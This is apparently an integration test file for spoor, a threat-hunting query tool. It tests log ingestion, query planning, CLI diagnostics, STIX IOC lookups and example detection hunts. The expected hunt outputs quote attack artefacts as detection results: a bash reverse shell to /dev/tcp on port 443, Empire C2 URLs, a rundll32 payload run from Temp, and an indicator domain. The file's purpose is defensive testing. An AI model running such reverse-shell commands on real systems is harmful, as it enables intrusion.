//! Hunts against a store built by `spoor ingest`, through the library and the command line:
//! filters reach the Parquet scan, the CLI prints rows and diagnostics, exit codes are right.

use crate::common;

use common::{documented, ingest_files, spoor};
use datafusion::prelude::SessionContext;
use spoor::dsl::run::Compiled;
use spoor::dsl::{ParamValues, RunOptions};

/// Runs `test` on spoor's query runtime with a session over the ECS endpoint fixture's store.
fn on_endpoint_events<F: std::future::Future<Output = ()>>(test: impl FnOnce(SessionContext) -> F) {
    let ingested = ingest_files(&[documented("ecs_endpoint.ndjson")]);
    let runtime = spoor::core::session::runtime().unwrap();
    runtime.block_on(async {
        let ctx = spoor::core::session::context(&ingested.store).await.unwrap();
        test(ctx).await
    });
}

/// Runs `test` on a worker of spoor's query runtime, with a session over the axios and
/// plain-crypto-js registry metadata. Parsing and planning exported SQL recurse deeply: the
/// worker has spoor's query stack.
fn on_npm_metadata<F>(test: impl FnOnce(SessionContext) -> F + Send + 'static)
where
    F: std::future::Future<Output = ()> + Send + 'static,
{
    let ingested =
        ingest_files(&[documented("npm_metadata_axios.json"), documented("npm_metadata_plain-crypto-js.json")]);
    let runtime = spoor::core::session::runtime().unwrap();
    let store = ingested.store.clone();
    let checked = runtime.spawn(async move { test(spoor::core::session::context(&store).await.unwrap()).await });
    runtime.block_on(checked).unwrap();
}

/// `batches` as a table, rows sorted by every column: to compare results whatever their order.
async fn sorted_table(ctx: &SessionContext, batches: Vec<arrow::record_batch::RecordBatch>) -> String {
    let frame = ctx.read_batches(batches).unwrap();
    let order = frame.schema().columns().into_iter().map(|c| datafusion::prelude::col(c).sort(true, true));
    let batches = frame.sort(order.collect()).unwrap().collect().await.unwrap();
    arrow::util::pretty::pretty_format_batches(&batches).unwrap().to_string()
}

/// A hunt compiled, and its plan after DataFusion's optimizer as text.
async fn compiled_and_optimized(ctx: &SessionContext, hunt: &str, options: &RunOptions) -> (Compiled, String) {
    let compiled = spoor::dsl::compile(ctx, hunt, &ParamValues::new(), options).await.unwrap();
    let text = spoor::dsl::run::explained(ctx, &compiled.plan).unwrap();
    (compiled, text)
}

#[test]
fn filters_and_the_time_window_reach_the_parquet_scan() {
    on_endpoint_events(|ctx| async move {
        let now = chrono::DateTime::parse_from_rfc3339("2026-04-01T00:00:00Z").unwrap().to_utc();
        let options = RunOptions { now, window: Some((now - chrono::Duration::days(2), now)) };
        let hunt = r#"process | where process.name == "sh" | select host.name, process.command_line"#;
        let (compiled, text) = compiled_and_optimized(&ctx, hunt, &options).await;
        let scan =
            text.lines().find(|l| l.trim_start().starts_with("TableScan: process")).unwrap_or_else(|| panic!("{text}"));
        // Whole date partitions outside the window are skipped...
        assert!(
            scan.contains(r#"full_filters=[date >= Date32("2026-03-30"), date <= Date32("2026-04-01")]"#),
            "{scan}"
        );
        // ...and the predicate and time bounds prune row groups and rows inside the scan.
        // The stored dictionary is compared as it is, not decoded to text first.
        assert!(scan.contains(r#"process.name = Dictionary(Int32, Utf8("sh"))"#), "{scan}");
        assert!(scan.contains("partial_filters=[@timestamp >= TimestampMicrosecond(1774828800000000"), "{scan}");
        let rows: usize = spoor::dsl::run::run(&ctx, &compiled).await.unwrap().iter().map(|b| b.num_rows()).sum();
        assert_eq!(rows, 1, "the fixture's one `sh` inside the window");
    });
}

#[test]
fn text_stored_as_a_dictionary_comes_out_as_plain_text() {
    use arrow::datatypes::{DataType, Field};
    on_endpoint_events(|ctx| async move {
        let process = ctx.table("process").await.unwrap();
        let stored = process.schema().field_with_unqualified_name("host.name").unwrap().data_type().clone();
        assert!(matches!(stored, DataType::Dictionary(..)), "{stored}");
        let hunt = "process | stats names = values(process.name) by host.name | select host.name, names";
        let options = RunOptions::now();
        let compiled = spoor::dsl::compile(&ctx, hunt, &ParamValues::new(), &options).await.unwrap();
        let batches = spoor::dsl::run::run(&ctx, &compiled).await.unwrap();
        let schema = batches.first().expect("rows").schema();
        assert_eq!(schema.field(0).data_type(), &DataType::Utf8);
        let item = match schema.field(1).data_type() {
            DataType::List(item) => item.clone(),
            other => panic!("names: {other}"),
        };
        assert_eq!(item.data_type(), Field::new("item", DataType::Utf8, true).data_type());
        let sql = spoor::dsl::run::to_sql(&compiled.plan).unwrap();
        assert!(!sql.contains("CAST"), "the export has no casts of its own: {sql}");
    });
}

#[test]
fn a_lone_distinct_count_is_planned_as_a_grouping() {
    on_endpoint_events(|ctx| async move {
        let hunt = "process | stats users = count_distinct(user.name) by host.name";
        let (_, text) = compiled_and_optimized(&ctx, hunt, &RunOptions::now()).await;
        // DataFusion rewrites it only when the aggregate is unnamed inside its `Aggregate` node:
        // a grouping on host and user, then a plain count per host, with no hash set per host.
        let aggregates: Vec<&str> = text.lines().filter(|l| l.trim_start().starts_with("Aggregate:")).collect();
        assert_eq!(aggregates.len(), 2, "{text}");
        assert!(!text.contains("DISTINCT"), "{text}");
    });
}

#[test]
fn hunt_check_and_explain_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("s");
    let store = store.to_str().unwrap();
    let paths = [documented("npm_metadata_axios.json"), documented("npm_metadata_plain-crypto-js.json")];
    let (code, out, err) = spoor(&["ingest", paths[0].to_str().unwrap(), paths[1].to_str().unwrap(), "--store", store]);
    assert_eq!(code, 0, "{out}{err}");

    let publishes = r#"audit | where audit.activity == "package_publish" and user.email endswith "@proton.me" | sort @timestamp | select package.name, package.version, user.email"#;
    let (code, out, err) = spoor(&["hunt", "-s", store, "-e", publishes, "--format", "ndjson"]);
    let out_rows = out.lines().count();
    assert_eq!(code, 0, "{err}");
    let first = out.lines().next().unwrap_or_default();
    assert_eq!(
        first, r#"{"package.name":"plain-crypto-js","package.version":"4.2.0","user.email":"nrwise@proton.me"}"#,
        "{out}"
    );
    assert!(out.lines().any(|l| l.contains(r#""package.name":"axios","package.version":"1.14.1""#)), "{out}");

    let (code, out, _) =
        spoor(&["hunt", "-s", store, "-e", "process | stats n = count() | select n", "--format", "csv"]);
    assert_eq!(code, 0);
    assert!(out.starts_with("n\n"), "{out}");

    // Parquet needs a file; the file holds the rows with their columns.
    let (code, _, err) = spoor(&["hunt", "-s", store, "-e", "audit | limit 1", "--format", "parquet"]);
    assert_eq!(code, 2);
    assert!(err.contains("--format parquet needs --output <file>"), "{err}");
    let parquet = dir.path().join("publishes.parquet");
    let (code, _, err) =
        spoor(&["hunt", "-s", store, "-e", publishes, "--format", "parquet", "--output", parquet.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let file = std::fs::File::open(&parquet).unwrap();
    let reader = parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder::try_new(file).unwrap().build().unwrap();
    let batches: Vec<_> = reader.map(|b| b.unwrap()).collect();
    let names: Vec<String> = batches[0].schema().fields().iter().map(|f| f.name().clone()).collect();
    assert_eq!(names, ["package.name", "package.version", "user.email"]);
    assert_eq!(batches.iter().map(|b| b.num_rows()).sum::<usize>(), out_rows);

    // A broken hunt: the source line, a caret, a hint; exit 2 and no rows.
    let (code, out, err) = spoor(&["hunt", "-s", store, "-e", "audit | where usr.name == \"x\""]);
    assert_eq!(code, 2, "{out}");
    assert!(err.contains("error[E003]: unknown field `usr.name`"), "{err}");
    assert!(err.contains("1 | audit | where usr.name == \"x\""), "{err}");
    assert!(err.contains("help: did you mean `user.name`?"), "{err}");

    let file = dir.path().join("bad.hunt");
    std::fs::write(&file, "process\n| where process.name = \"x\"\n| lmit 3\n").unwrap();
    let (code, out, err) = spoor(&["check", file.to_str().unwrap()]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(err.contains("2 errors"), "{err}");
    let (code, out, _) = spoor(&["check", "--format", "json", file.to_str().unwrap()]);
    assert_eq!(code, 1);
    let json: serde_json::Value = serde_json::from_str(&out).unwrap();
    let codes: Vec<&str> = json.as_array().unwrap().iter().map(|d| d["code"].as_str().unwrap()).collect();
    assert_eq!(codes, ["E001", "E001"], "{out}");
    assert_eq!(json[1]["line"], 3);
    let (code, out, _) = spoor(&["check", "--format", "sarif", file.to_str().unwrap()]);
    assert_eq!(code, 1);
    let sarif: serde_json::Value = serde_json::from_str(&out).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert_eq!(results.len(), 2, "{out}");
    assert_eq!(results[1]["locations"][0]["physicalLocation"]["region"]["startLine"], 3);

    let (code, out, err) =
        spoor(&["explain", "-s", store, "--since", "30d", "-e", "audit | where package.name == \"axios\""]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("TableScan: audit") && out.contains("full_filters=[date >="), "{out}");
    let (code, out, _) =
        spoor(&["explain", "-s", store, "--sql", "-e", "process | where process.name == \"curl\" | select host.name"]);
    assert_eq!(code, 0);
    assert_eq!(out.trim(), r#"SELECT "host.name" AS "host.name" FROM process WHERE ("process.name" = 'curl')"#);
    // spoor's regex test goes out as the operators other engines know.
    let regexes =
        r#"process | where process.name matches "^cu" or process.command_line matches~ "sfrclak" | select host.name"#;
    let (code, out, err) = spoor(&["explain", "-s", store, "--sql", "-e", regexes]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out.trim(),
        r#"SELECT "host.name" AS "host.name" FROM process WHERE (("process.name" ~ '^cu') OR ("process.command_line" ~* 'sfrclak'))"#
    );

    // --analyze runs the hunt: the physical plan with what each operator did, and the rows found.
    let (code, out, err) = spoor(&["explain", "-s", store, "--analyze", "-e", publishes]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("DataSourceExec") && out.contains("metrics=[output_rows="), "{out}");
    assert!(out_rows > 1);
    let summary = out.lines().last().unwrap();
    assert!(
        summary.starts_with(&format!("{out_rows} rows; compiled in ")) && summary.contains(" ran in "),
        "{summary}"
    );
    let (code, _, err) = spoor(&["explain", "-s", store, "--analyze", "--sql", "-e", publishes]);
    assert_eq!(code, 2, "--analyze and --sql together are refused: {err}");
}

#[test]
fn iocs_from_a_stix_bundle_drive_a_lookup() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("s");
    let store = store.to_str().unwrap();
    let dns = documented("bind_queries.log");
    let (code, out, err) = spoor(&["ingest", dns.to_str().unwrap(), "--store", store]);
    assert_eq!(code, 0, "{out}{err}");
    let bundle = dir.path().join("bundle.json");
    std::fs::write(
        &bundle,
        r#"{"type": "bundle", "id": "bundle--1", "objects": [
            {"type": "indicator", "id": "indicator--1", "name": "axios C2", "pattern_type": "stix", "valid_from": "2026-03-31T00:00:00Z",
             "pattern": "[domain-name:value = 'sfrclak.com']"}]}"#,
    )
    .unwrap();
    let hunt = "let c2 = (iocs | where type == \"domain\")\ndns | lookup c2 as ioc on dns.question.name using domain | select dns.question.name, ioc.campaign";
    let (code, out, err) =
        spoor(&["hunt", "-s", store, "--iocs", bundle.to_str().unwrap(), "-e", hunt, "--format", "csv"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.lines().skip(1).all(|l| l.ends_with(",axios C2")), "{out}");
    assert!(out.lines().count() > 1, "{out}");
}

#[test]
fn a_sequence_exported_as_sql_finds_the_same_rows() {
    // spoor runs a sequence's matching policy with an operator of its own (KeepFirst); the SQL
    // export says it with row_number() windows, and both must find the same matches.
    on_npm_metadata(|ctx| async move {
        let hunt = r#"sequence by package.name within 30d
              before: audit where audit.activity == "package_publish"
              after: audit where audit.activity == "package_publish" and user.email != before.user.email
            | select after.package.name, before.package.version, after.package.version, after.user.email"#;
        let compiled = spoor::dsl::compile(&ctx, hunt, &ParamValues::new(), &RunOptions::now()).await.unwrap();
        let explained = spoor::dsl::run::explained(&ctx, &compiled.plan).unwrap();
        assert_eq!(explained.matches("KeepFirst:").count(), 2, "{explained}");
        let sql = spoor::dsl::run::to_sql(&compiled.plan).unwrap();
        assert_eq!(sql.matches("row_number()").count(), 2, "{sql}");
        let sorted = |batches| sorted_table(&ctx, batches);
        let found = sorted(spoor::dsl::run::run(&ctx, &compiled).await.unwrap()).await;
        let exported = sorted(ctx.sql(&sql).await.unwrap().collect().await.unwrap()).await;
        assert_eq!(found, exported, "{sql}");
        assert!(found.contains("ifstap@proton.me"), "{found}");
    });
}

#[test]
fn a_let_used_several_times_over_small_tables_is_computed_once_with_the_same_rows() {
    on_npm_metadata(|ctx| async move {
        let hunt = r#"let publishes = (audit | where audit.activity == "package_publish")
            let firsts = (publishes | stats first_publish = min(@timestamp) by user.email)
            sequence by package.name within 30d
              before: publishes
              after: publishes where user.email != before.user.email
            | lookup firsts on after.user.email = firsts.user.email
            | select after.package.name, before.package.version, after.package.version, after.user.email,
                new_publisher = firsts.first_publish == after.@timestamp"#;
        let compiled = spoor::dsl::compile(&ctx, hunt, &ParamValues::new(), &RunOptions::now()).await.unwrap();
        let explained = spoor::dsl::run::explained(&ctx, &compiled.plan).unwrap();
        assert_eq!(explained.matches("publishes, computed once for all its uses:").count(), 1, "{explained}");
        assert_eq!(explained.matches("TableScan: audit").count(), 1, "the table is read once: {explained}");
        assert!(!explained.contains("firsts, computed once"), "`firsts` is used once: {explained}");
        let analysis = spoor::dsl::run::analyze(&ctx, &compiled).await.unwrap();
        assert!(analysis.plan.starts_with("publishes, computed once for all its uses:"), "{}", analysis.plan);

        let sorted = |batches| sorted_table(&ctx, batches);
        let found = sorted(spoor::dsl::run::run(&ctx, &compiled).await.unwrap()).await;
        assert!(found.contains("ifstap@proton.me"), "{found}");
        // Planned at each use instead, the same rows: as the language defines a `let`...
        let resolved =
            spoor::dsl::check(hunt, &spoor::dsl::run::catalog(&ctx).await.unwrap(), &ParamValues::new()).unwrap();
        let sources = spoor::dsl::run::sources(&ctx, &resolved.hunt.query).await.unwrap();
        let inlined = spoor::dsl::lower(&resolved.hunt, &sources, &RunOptions::now()).unwrap();
        assert!(!spoor::dsl::run::explained(&ctx, &inlined).unwrap().contains("computed once"));
        let planned_at_each_use = Compiled { plan: inlined, ..compiled.clone() };
        assert_eq!(found, sorted(spoor::dsl::run::run(&ctx, &planned_at_each_use).await.unwrap()).await);
        // ...when DataFusion runs the plan itself (each use plans the definition again)...
        let direct = ctx.execute_logical_plan(compiled.plan.clone()).await.unwrap().collect().await.unwrap();
        assert_eq!(found, sorted(direct).await);
        // ...and exported as SQL, with the definition written out at each use.
        let sql = spoor::dsl::run::to_sql(&compiled.plan).unwrap();
        assert!(!sql.contains("FROM publishes"), "{sql}");
        assert_eq!(found, sorted(ctx.sql(&sql).await.unwrap().collect().await.unwrap()).await, "{sql}");
    });
}

#[test]
fn sorted_rows_stay_in_order_through_the_steps_after_the_sort() {
    // DataFusion parallelizes a computing step above a sort by dealing the sorted batches out
    // to several partitions (a round-robin repartition), each sorted but not in order
    // together, and collecting the plan concatenates them as they finish. Three input
    // partitions of shuffled numbers, many batches of output; the sort key kept in the output
    // and left out of it.
    use arrow::array::{AsArray, Int64Array};
    use arrow::datatypes::{DataType, Field, Int64Type, Schema};
    let schema = std::sync::Arc::new(Schema::new(vec![Field::new("n", DataType::Int64, false)]));
    let partitions: Vec<Vec<arrow::record_batch::RecordBatch>> = (0..3i64)
        .map(|p| {
            let numbers = Int64Array::from_iter_values((0..20_000i64).map(|i| (i * 7_919 + p) % 60_000));
            vec![arrow::record_batch::RecordBatch::try_new(schema.clone(), vec![std::sync::Arc::new(numbers)]).unwrap()]
        })
        .collect();
    let session = |planner: Option<spoor::core::planner::Planner>| {
        let config = spoor::core::session::config().with_target_partitions(4).with_batch_size(1024);
        let mut state = datafusion::execution::session_state::SessionStateBuilder::new()
            .with_config(config)
            .with_default_features();
        if let Some(planner) = planner {
            state = state.with_query_planner(std::sync::Arc::new(planner));
        }
        let ctx = SessionContext::new_with_state(state.build());
        let events = datafusion::datasource::MemTable::try_new(schema.clone(), partitions.clone()).unwrap();
        ctx.register_table("events", std::sync::Arc::new(events)).unwrap();
        ctx
    };
    let (spoors, datafusions) = (session(Some(spoor::core::planner::Planner)), session(None));
    let options = RunOptions { now: chrono::Utc::now(), window: None };
    spoor::core::session::runtime().unwrap().block_on(async {
        for hunt in [
            "events | sort n desc | extend doubled = n * 2 | where doubled != 10",
            "events | sort n desc | select doubled = n * 2",
        ] {
            let compiled = spoor::dsl::compile(&spoors, hunt, &ParamValues::new(), &options).await.unwrap();
            let unguarded = datafusions.state().create_physical_plan(&compiled.plan).await.unwrap();
            let shape = datafusion::physical_plan::displayable(unguarded.as_ref()).indent(false).to_string();
            assert!(shape.contains("RoundRobinBatch"), "the case this guards: DataFusion's own plan\n{shape}");
            let check = |batches: Vec<arrow::record_batch::RecordBatch>, how: &str| {
                let doubled: Vec<i64> = batches
                    .iter()
                    .flat_map(|b| b.column_by_name("doubled").unwrap().as_primitive::<Int64Type>().values().to_vec())
                    .collect();
                assert!(doubled.len() > 30_000, "{hunt}, {how}: many batches of rows, not {}", doubled.len());
                assert!(doubled.windows(2).all(|w| w[0] >= w[1]), "{hunt}, {how}: the rows are out of order");
            };
            check(spoor::dsl::run::run(&spoors, &compiled).await.unwrap(), "spoor's runner");
            // A session with spoor's planner keeps the order for plans it runs itself.
            check(
                spoors.execute_logical_plan(compiled.plan.clone()).await.unwrap().collect().await.unwrap(),
                "the session",
            );
        }
    });
}

/// The example hunts (examples/hunts), each run on the real samples it was written for
/// (tests/data/corpus and tests/data/windows, origins in their READMEs).
#[test]
fn the_example_hunts_find_the_intrusions_in_the_real_samples() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let t = common::ingest_files(&[
        root.join("tests/data/windows"),
        root.join("tests/data/corpus/edr"),
        root.join("tests/data/linux/audit.log"),
    ]);
    let store = t.store.root().to_str().unwrap().to_string();
    let run = |hunt: &str| {
        let (code, out, err) = common::spoor(&[
            "hunt",
            root.join("examples/hunts").join(hunt).to_str().unwrap(),
            "--store",
            &store,
            "--format",
            "csv",
        ]);
        assert_eq!(code, 0, "{hunt}: {err}");
        out.lines().skip(1).map(str::to_string).collect::<Vec<_>>()
    };
    // Empire's VBS stager, and mshta running VBScript, each once although Sysmon and Security
    // both recorded the starts (the mshta sample's Security times are four hours off: its
    // shipper wrote local time as UTC).
    assert_eq!(
        run("windows/script-host-starts-powershell.hunt"),
        [
            "2020-09-04T20:09:55.760Z,workstation5.theshire.local,wscript.exe,start,1,true,107",
            "2020-10-22T06:58:00.462Z,workstation5,mshta.exe,start,1,false,9",
        ]
    );
    let rundll = r"rundll32.exe C:\Users\PEDRO~1.GUS\AppData\Local\Temp\rtcpef.dll,a /p:rtcpef";
    assert_eq!(
        run("windows/service-runs-from-temp-or-pipe.hunt"),
        [
            format!("2023-08-15T09:56:15.588Z,mkt01.pandalab.com,7045,rtcpef,\"{rundll}\""),
            format!("2023-08-15T09:56:15.589Z,mkt01.pandalab.com,4697,rtcpef,\"{rundll}\""),
        ]
    );
    assert_eq!(
        run("windows/named-pipe-impersonation.hunt"),
        [r"2023-08-16T04:56:15.549Z,mkt01.pandalab.com,\rtcpef,winx64_payload.exe,rundll32.exe"]
    );
    assert_eq!(
        run("windows/script-block-download-cradle.hunt"),
        [
            "workstation5.theshire.local,4103,1,2020-09-04T20:10:00.492Z,[New-Object]",
            "workstation5.theshire.local,4104,1,2020-09-04T20:10:00.327Z,[]",
        ]
    );
    // Empire's launcher, its two layers of base64 cut out by `extract`: the C2 server it names.
    assert_eq!(
        run("windows/encoded-powershell-c2.hunt"),
        [
            "workstation5,http://192.168.3.5:443,2,2022-05-13T08:54:08.420Z",
            "workstation5.theshire.local,http://10.10.10.5,2,2020-09-04T20:09:55.760Z",
        ]
    );
    let java = run("java-spawns-shell.hunt");
    assert_eq!(java.len(), 1, "{java:?}");
    assert!(java[0].starts_with("2022-05-11T18:10:21.998Z,ubuntu5,from_child,\"bash -c {echo,"), "{java:?}");
    assert!(java[0].ends_with(",bash -i >& /dev/tcp/192.168.2.6/443 0>&1"), "{java:?}");
    // auditd's hex-encoded perl one-liner, decoded, and the address it connected to.
    assert_eq!(
        run("linux/interpreter-reverse-shell.hunt"),
        ["2026-03-31T00:41:02.123Z,web-01,alice,perl,192.0.2.10,4444,tests/data/linux/audit.log,2"
            .replace("tests/data/linux/audit.log", root.join("tests/data/linux/audit.log").to_str().unwrap())]
    );
}

/// The pack on the real public captures in `tests/data` (OTRF's Windows, Zeek and Sysmon
/// samples, npm lockfiles and CI logs): it reports nothing. Every series c2.beaconing once scored
/// there was a timer that is not C2 (SSDP to multicast, LDAP over IPv6 link-local, a member's
/// Kerberos and DNS to its domain controller), and every rare domain was not an internet name
/// (`localhost`, a host's own name); the hunts' fixtures hold each of these shapes.
#[test]
fn the_pack_is_quiet_on_the_real_public_samples() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let t = common::ingest_files(&[root.join("tests/data/windows"), root.join("tests/data/corpus")]);
    let store = t.store.root().to_str().unwrap().to_string();
    let pack = root.join("hunts");
    let (code, out, err) =
        common::spoor(&["pack", "run", "--pack", pack.to_str().unwrap(), "--store", &store, "--format", "ndjson"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "", "no findings: {err}");
    assert!(err.contains("0 findings from 0 hunts"), "{err}");
}
